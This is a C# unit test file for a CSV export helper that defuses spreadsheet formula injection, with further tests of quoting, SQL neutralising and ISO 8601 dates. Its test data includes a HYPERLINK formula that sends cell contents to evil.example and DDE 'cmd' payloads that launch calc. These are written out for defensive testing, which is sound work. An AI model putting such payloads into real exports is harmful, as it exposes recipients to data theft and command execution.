using Clientele.Csv;

namespace Clientele.Core.Tests.Csv;

public sealed class CsvCellTests
{
    [Theory]
    [InlineData("=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Click me\")", "\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"Click me\"\")\"")]
    [InlineData("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0")]
    [InlineData("+1+1", "'+1+1")]
    [InlineData("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0")]
    [InlineData("@SUM(1,2)", "\"'@SUM(1,2)\"")]
    [InlineData("\t=1", "'\t=1")]
    [InlineData("\r=1", "\"'\r=1\"")]
    public void Text_that_a_spreadsheet_would_evaluate_gets_a_leading_apostrophe(string text, string cell) =>
        Assert.Equal(cell, CsvCell.Text(text));

    [Theory]
    [InlineData("Acme", "Acme")]
    [InlineData("Acme, Ltd", "\"Acme, Ltd\"")]
    [InlineData("a \"b\"", "\"a \"\"b\"\"\"")]
    [InlineData("", "")]
    [InlineData("x=1", "x=1")]
    [InlineData("'quoted", "'quoted")]
    public void Other_text_is_only_quoted_where_csv_needs_it(string text, string cell) =>
        Assert.Equal(cell, CsvCell.Text(text));

    [Theory]
    [InlineData("=1+1")]
    [InlineData("-12.5")]
    [InlineData("@x")]
    [InlineData("plain")]
    [InlineData("'already")]
    public void Original_undoes_the_neutralising(string text) =>
        Assert.Equal(text, CsvCell.Original(CsvCell.Neutralised(text)));

    [Fact]
    public void The_sql_expression_names_every_formula_start()
    {
        var sql = CsvCell.SqlNeutralised("name");
        foreach (var c in CsvCell.FormulaStarts) Assert.Contains($"chr({(int)c})", sql, StringComparison.Ordinal);
        Assert.Contains("'''' || name", sql, StringComparison.Ordinal);
    }

    [Fact]
    public void Moments_are_written_iso_8601_not_in_the_invariant_cultures_month_first_form()
    {
        Assert.Equal("2026-12-05T13:56:44Z", CsvCell.Value(new DateTime(2026, 12, 5, 13, 56, 44, DateTimeKind.Utc)));
        Assert.Equal("2026-12-05T13:56:44", CsvCell.Value(new DateTime(2026, 12, 5, 13, 56, 44, DateTimeKind.Unspecified)));
        Assert.Equal("2026-12-05T13:56:44+01:00", CsvCell.Value(new DateTimeOffset(2026, 12, 5, 13, 56, 44, TimeSpan.FromHours(1))));
        Assert.Equal("2026-12-05", CsvCell.Value(new DateOnly(2026, 12, 5)));
    }
}
